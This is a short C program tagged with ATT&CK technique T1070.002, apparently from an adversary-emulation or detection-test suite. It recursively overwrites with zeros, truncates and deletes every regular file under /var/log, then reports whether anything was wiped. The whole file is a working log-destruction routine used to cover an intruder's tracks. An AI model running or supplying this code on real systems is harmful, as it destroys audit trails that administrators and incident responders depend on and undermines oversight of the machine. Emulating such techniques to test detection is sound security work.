/* T1070.002: overwrites, cuts and removes whatever lies below /var/log. */
#include "lib.h"

static uint32_t wiped;

static int32_t wipe(const char *path, const struct abi_stat *stat, bool behind, void *with)
{
    (void)with;
    if (behind || (stat->mode & S_IFMT) != S_IFREG)
        return 0;
    int32_t log = CALL(OPENAT, AT_FDCWD, path, O_WRONLY);
    if (log >= 0) {
        for (int64_t place = 0; place < stat->size; place++)
            CALL(WRITE, log, "\0", 1);
        CALL(FTRUNCATE, log, 0);
        CALL(CLOSE, log);
    }
    wiped += CALL(UNLINKAT, AT_FDCWD, path, 0) == 0;
    return 0;
}

int main(void)
{
    each_below("/var/log", wipe, NULL);
    print(wiped ? "done\n" : "no\n");
    return !wiped;
}
